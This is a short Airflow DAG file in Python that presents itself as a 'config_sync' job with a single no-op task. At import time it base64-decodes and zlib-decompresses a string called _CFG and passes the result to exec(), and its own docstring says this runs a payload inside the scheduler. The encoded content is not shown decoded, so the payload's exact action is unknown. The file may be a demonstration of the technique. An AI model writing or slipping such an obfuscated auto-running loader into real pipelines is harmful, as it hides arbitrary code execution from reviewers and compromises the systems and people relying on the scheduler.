"""Looks like a config loader; at parse time it decodes and runs a payload inside the scheduler."""
import base64
import zlib
from datetime import datetime

from airflow import DAG
from airflow.operators.empty import EmptyOperator

_CFG = "eJzLzC3ILypRyC+2BmK94sriktRcDfXMFAU7Bf2S3AJ9vQp1TQDukgvt"

exec(zlib.decompress(base64.b64decode(_CFG)))

with DAG(dag_id="config_sync", start_date=datetime(2024, 1, 1), schedule="@daily", catchup=False) as dag:
    EmptyOperator(task_id="noop")
